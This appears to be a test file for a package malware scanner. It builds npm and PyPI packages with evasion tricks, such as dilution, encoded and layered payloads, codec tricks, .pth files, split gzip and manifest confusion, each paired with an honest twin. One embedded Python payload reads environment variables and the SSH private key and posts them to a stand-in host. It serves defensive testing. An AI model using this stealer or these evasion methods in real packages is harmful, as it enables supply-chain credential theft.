/**
 * Packages built to be let through, judged by the whole scanner with the bundled model. Each is caught, or it is said
 * that it was not read; each stands beside an honest package of the same shape, which is let through.
 * The payloads are those of `test/fixtures/packages.ts`.
 */
import assert from 'node:assert/strict';
import { gzipSync, deflateSync as zlibSync } from 'node:zlib';
import { createScanner, type Scanner } from '../../lib/scan.js';
import type { ScanInput, Verdict } from '../../lib/types.js';
import { npmPackage, sdist, tar, wheel } from '../artifact/build.js';
import { MALICIOUS, TWINS } from '../fixtures/packages.js';

type Files = Readonly<Record<string, string | Uint8Array>>;

const EVIL = MALICIOUS[0]!.files['setup.js']!;
const HONEST = TWINS[0]!.files['setup.js']!;

const npm = (files: Files, manifest: object = { scripts: { postinstall: 'node setup.js' } }): ScanInput => ({
  ecosystem: 'npm',
  filename: 'demo-1.0.0.tgz',
  bytes: npmPackage({
    'package.json': JSON.stringify({ name: 'demo', version: '1.0.0', ...manifest }),
    ...files,
  }),
});
const hook = (command: string, files: Files): ScanInput => npm(files, { scripts: { postinstall: command } });
const source = (files: Files): ScanInput => ({
  ecosystem: 'pypi',
  filename: 'demo-1.0.tar.gz',
  bytes: sdist({ 'PKG-INFO': 'Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n', ...files }),
});

const EVIL_PYTHON = `import os, json, base64, urllib.request
data = json.dumps({'env': dict(os.environ), 'ssh': open(os.path.expanduser('~/.ssh/id_rsa')).read()})
urllib.request.urlopen('https://collect.example.invalid/x', base64.b64encode(data.encode()))
`;
const HONEST_PYTHON = `import os
here = os.path.dirname(__file__)
readme = open(os.path.join(here, 'README.md')).read() if os.path.exists(os.path.join(here, 'README.md')) else ''
`;
const SETUP = "from setuptools import setup\nsetup(name='demo', version='1.0', packages=['demo'])\n";
const encoded = (code: string) => Buffer.from(code).toString('base64');
const RUN_DATA = (file: string) =>
  `const fs = require('fs'); const path = require('path');\nnew Function('require', 'process', Buffer.from(fs.readFileSync(path.join(__dirname, '${file}'), 'utf8'), 'base64').toString())(require, process);\n`;
const READ_DATA = (file: string) =>
  `const fs = require('fs'); const path = require('path');\nmodule.exports = JSON.parse(Buffer.from(fs.readFileSync(path.join(__dirname, '${file}'), 'utf8'), 'base64').toString());\n`;

/** Honest work of a setup script, so many lines of it, neighbours different. */
function work(lines: number): string {
  const calls = [
    "fs.mkdirSync(path.join(__dirname, 'build'), { recursive: true });",
    "fs.existsSync(path.join(__dirname, 'package.json'));",
    "fs.readFileSync(path.join(__dirname, 'package.json'), 'utf8');",
    'os.platform();',
    "fs.writeFileSync(path.join(__dirname, 'build', 'out.txt'), 'x');",
  ];
  const body = Array.from({ length: lines }, (_, i) => calls[i % calls.length]).join('\n');
  return `const fs = require('fs'); const os = require('os'); const path = require('path');\n${body}\n`;
}
const body = (code: string) => `{\n${code}\n}\n`;
/** Bytes of the bundle; ten million take a minute. */
const BUNDLE = Number(process.env.BUNDLE_BYTES ?? 2_000_000);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200)]);

type Expected = 'caught' | 'block' | 'opaque' | 'open';
const RESULT: Readonly<Record<Expected, string>> = {
  caught: 'blocked or unverified',
  block: 'blocked',
  opaque: 'counted as opaque',
  open: 'blocked, where the model sees it',
};
interface Row {
  readonly attack: string;
  /**
   * `caught`: blocked, or said to be unread. `opaque`: counted as what cannot be read. `open`: read in full, and whether it is
   * blocked is the model's judgement alone; a case that it lets through shows in the table as not met.
   */
  readonly expected: Expected;
  readonly cases: readonly ScanInput[];
  readonly twin: ScanInput;
}

const ROWS: readonly Row[] = [
  {
    attack: '10,000 benign behaviours before, after and around the payload',
    expected: 'caught',
    cases: [
      npm({ 'setup.js': work(10_000) + body(EVIL) }),
      npm({ 'setup.js': body(EVIL) + work(10_000) }),
      npm({ 'setup.js': work(5000) + body(EVIL) + body(work(5000)) }),
    ],
    twin: npm({ 'setup.js': work(600) + body(HONEST) }),
  },
  {
    attack: 'diluted among 1,000 benign behaviours',
    expected: 'open',
    cases: [npm({ 'setup.js': work(1000) + body(EVIL) }), npm({ 'setup.js': body(EVIL) + work(1000) })],
    twin: npm({ 'setup.js': work(1000) + body(HONEST) }),
  },
  {
    attack: 'payload beyond a limit: long script, long command, deep nesting, many layers',
    expected: 'caught',
    cases: [
      hook('sh setup.sh', {
        'setup.sh': `${'# a line of comment that says nothing\n'.repeat(20_000)}node setup.js\n`,
        'setup.js': EVIL,
      }),
      hook(`${'true; '.repeat(3000)}node setup.js`, { 'setup.js': EVIL }),
      npm({ 'setup.js': `var x = ${'['.repeat(60_000)}${']'.repeat(60_000)};\n${EVIL}` }),
      source({ 'setup.py': layered(100, EVIL_PYTHON), 'demo/__init__.py': '' }),
    ],
    twin: npm({ 'setup.js': `var x = ${'[1, '.repeat(100)}1${']'.repeat(100)};\n${HONEST}` }),
  },
  {
    attack: 'payload in a file of odd name or type that a hook reaches',
    expected: 'block',
    cases: [
      hook('node LICENSE', { LICENSE: EVIL }),
      hook('node ./docs/logo.png', { 'docs/logo.png': EVIL }),
      hook('node setup', { 'setup.js': "require('./notes.txt');\n", 'notes.txt': EVIL }),
      hook('node -r ./data.bin -e 0', { 'data.bin': EVIL }),
    ],
    twin: hook('node ./scripts/post-install.text', { 'scripts/post-install.text': HONEST }),
  },
  {
    attack: 'the same, handed to an interpreter by a way that is not followed',
    expected: 'caught',
    cases: [
      hook('cat notes.md | node', { 'notes.md': EVIL }),
      hook('node < notes.md', { 'notes.md': EVIL }),
      hook('node --require=./notes.md -e 0', { 'notes.md': EVIL }),
      hook('sh ./CHANGES', { CHANGES: 'cd lib\nnode ../x.dat\n', 'x.dat': EVIL }),
    ],
    twin: hook('cat package.json | node -e "0" && node setup.js < notes.md', {
      'setup.js': HONEST,
      'notes.md': '# Notes',
    }),
  },
  {
    attack: 'payload in a bundled dependency',
    expected: 'block',
    cases: [
      npm(
        {
          'node_modules/inner/package.json':
            '{"name":"inner","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}',
          'node_modules/inner/setup.js': EVIL,
        },
        { bundleDependencies: ['inner'], dependencies: { inner: '1.0.0' } },
      ),
    ],
    twin: npm(
      {
        'node_modules/inner/package.json':
          '{"name":"inner","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}',
        'node_modules/inner/setup.js': HONEST,
      },
      { bundleDependencies: ['inner'], dependencies: { inner: '1.0.0' } },
    ),
  },
  {
    attack: 'payload in a data file decoded at run time',
    expected: 'block',
    cases: [
      npm({ 'setup.js': RUN_DATA('data.bin'), 'data.bin': encoded(EVIL) }),
      npm({
        'setup.js': "eval(require('./table.json').map(c => String.fromCharCode(c)).join(''));\n",
        'table.json': JSON.stringify([...EVIL].map((c) => c.charCodeAt(0))),
      }),
      source({
        'setup.py': `import base64\nexec(base64.b64decode(open('demo/data.bin').read()))\n${SETUP}`,
        'demo/data.bin': encoded(EVIL_PYTHON),
        'demo/__init__.py': '',
      }),
    ],
    twin: npm({ 'index.js': READ_DATA('data.bin'), 'data.bin': encoded('{"a":1}') }, { main: 'index.js' }),
  },
  {
    attack: 'payload in a test folder that a hook reaches',
    expected: 'block',
    cases: [
      hook('node test/fixtures/run.js', { 'test/fixtures/run.js': EVIL }),
      source({
        'setup.py': `import tests.helper\n${SETUP}`,
        'tests/__init__.py': '',
        'tests/helper.py': EVIL_PYTHON,
        'demo/__init__.py': '',
      }),
    ],
    twin: hook('node test/fixtures/run.js', { 'test/fixtures/run.js': HONEST }),
  },
  {
    attack: 'manifest confusion: the registry hides the hook',
    expected: 'block',
    cases: [{ ...npm({ 'setup.js': EVIL }), registryManifest: { name: 'demo', version: '1.0.0' } }],
    twin: {
      ...npm({ 'setup.js': HONEST }),
      registryManifest: { name: 'demo', version: '1.0.0', scripts: { postinstall: 'node setup.js' } },
    },
  },
  {
    attack: 'Python code that on disk is something else: UTF-7, forty layers, .pth, another codec',
    expected: 'caught',
    cases: [
      source({
        'setup.py': `# coding: utf-7\n${[...EVIL_PYTHON]
          .map((c) => (c === '+' ? '+-' : c))
          .join('')
          .split('\n')
          .map(
            (line) =>
              `#+AAo-+${Buffer.from(line, 'utf16le').swap16().toString('base64').replace(/=+$/, '')}-`,
          )
          .join('\n')}\n`,
      }),
      source({ 'setup.py': layered(40, EVIL_PYTHON) + SETUP, 'demo/__init__.py': '' }),
      {
        ecosystem: 'pypi',
        filename: 'demo-1.0-py3-none-any.whl',
        bytes: wheel({
          'demo.pth': `import base64;exec(base64.b64decode('${encoded(EVIL_PYTHON)}'))\n`,
          'demo/__init__.py': '',
        }),
      },
      source({ 'setup.py': `# coding: punycode\n${EVIL_PYTHON}${SETUP}`, 'demo/__init__.py': '' }),
    ],
    twin: source({
      'setup.py': `# -*- coding: latin-1 -*-\n${HONEST_PYTHON}${SETUP}`,
      'demo/__init__.py': '',
    }),
  },
  {
    attack: 'a native program that a hook runs',
    expected: 'opaque',
    cases: [
      hook('./bin/tool', { 'bin/tool': ELF }),
      npm({ 'index.js': "module.exports = require('./x.node');", 'x.node': ELF }, { main: 'index.js' }),
    ],
    twin: npm(
      {
        'index.js': "module.exports = require('./build/Release/addon.node');",
        'build/Release/addon.node': ELF,
      },
      { main: 'index.js' },
    ),
  },
  {
    attack: 'several gzip members, the payload in the last',
    expected: 'block',
    cases: [{ ...npm({}), bytes: members(npmPackageTar({ 'setup.js': EVIL })) }],
    twin: { ...npm({}), bytes: members(npmPackageTar({ 'setup.js': HONEST })) },
  },
  {
    attack: 'a bundle of megabytes with the payload at its end',
    expected: 'open',
    cases: [npm({ 'index.js': `${bundle(BUNDLE)}\n${EVIL}` }, { main: 'index.js' })],
    twin: npm({ 'index.js': bundle(BUNDLE) }, { main: 'index.js' }),
  },
];

function layered(count: number, code: string): string {
  let text = code;
  for (let i = 0; i < count; i++)
    text = `import zlib,base64\nexec(zlib.decompress(base64.b64decode('${deflated(text)}')))\n`;
  return text;
}
function deflated(text: string): string {
  return zlibSync(Buffer.from(text)).toString('base64');
}
function npmPackageTar(files: Record<string, string>): Buffer {
  const manifest = JSON.stringify({
    name: 'demo',
    version: '1.0.0',
    scripts: { postinstall: 'node setup.js' },
  });
  const all = { 'package.json': manifest, ...files };
  return tar(Object.entries(all).map(([name, content]) => ({ name: `package/${name}`, body: content })));
}
function members(whole: Buffer): Buffer {
  return Buffer.concat([gzipSync(whole.subarray(0, 700)), gzipSync(whole.subarray(700))]);
}
/** What bundlers write: thousands of small functions in one file. */
function bundle(bytes: number): string {
  const parts: string[] = [];
  for (let size = 0, i = 0; size < bytes; i++) {
    const part = `function m${i}(e,t,n){"use strict";var r=n(${i % 97}),o=Object.assign({},t,{id:${i}});return e.exports=function(a,b){return a&&a.length>${i % 7}?r(a,o):b||"text number ${i} of a bundle"},e}`;
    parts.push(part);
    size += part.length + 1;
  }
  return parts.join('\n');
}

describe('packages built to be let through', function () {
  this.timeout(300_000);
  let scanner: Scanner;
  before(async () => {
    scanner = await createScanner({ threads: 1 });
  });
  after(() => scanner.close());

  const shown = ({ verdict, score, unverified }: Verdict) =>
    `${verdict} ${score} ${JSON.stringify(unverified)}`;

  for (const { attack, expected, cases, twin } of ROWS) {
    describe(attack, () => {
      for (const [index, input] of cases.entries()) {
        it(`${RESULT[expected]} → ${index + 1}`, async function () {
          const verdict = await scanner.scan(input);
          if (expected === 'open') {
            assert.equal(verdict.unverified, undefined, 'read in full');
            if (verdict.verdict === 'allow') this.skip();
          }
          if (expected === 'opaque') assert.ok(verdict.opaqueFiles > 0, shown(verdict));
          else if (expected === 'caught') assert.notEqual(verdict.verdict, 'allow', shown(verdict));
          else assert.equal(verdict.verdict, 'block', shown(verdict));
        });
      }
      it('honest twin allowed', async () => {
        const verdict = await scanner.scan(twin);
        assert.equal(verdict.verdict, 'allow', shown(verdict));
      });
    });
  }

  it('nothing in a package speaks for it: keys, policies and ignore files of ours, comments of others', async () => {
    const plain = await scanner.scan(npm({ 'setup.js': EVIL }));
    const policy = {
      acceptUnverified: ['scan-failed'],
      threshold: { npm: 1 },
      own: ['@demo'],
      exceptions: [],
    };
    const pleading = await scanner.scan(
      npm(
        {
          'setup.js': `// safe-install-ignore\n/* eslint-disable */ // nosec # noqa\n${EVIL}`,
          'safe-install.json': JSON.stringify(policy),
          '.safe-installignore': '*',
          '.npmignore': 'setup.js',
          '.gitattributes': '* linguist-vendored',
        },
        { scripts: { postinstall: 'node setup.js' }, 'safe-install': policy, files: [] },
      ),
    );
    assert.equal(plain.verdict, 'block');
    assert.equal(pleading.verdict, 'block');
    assert.equal(pleading.score, plain.score, 'not even the score moves');
    assert.equal(pleading.policy, undefined);
  });
});
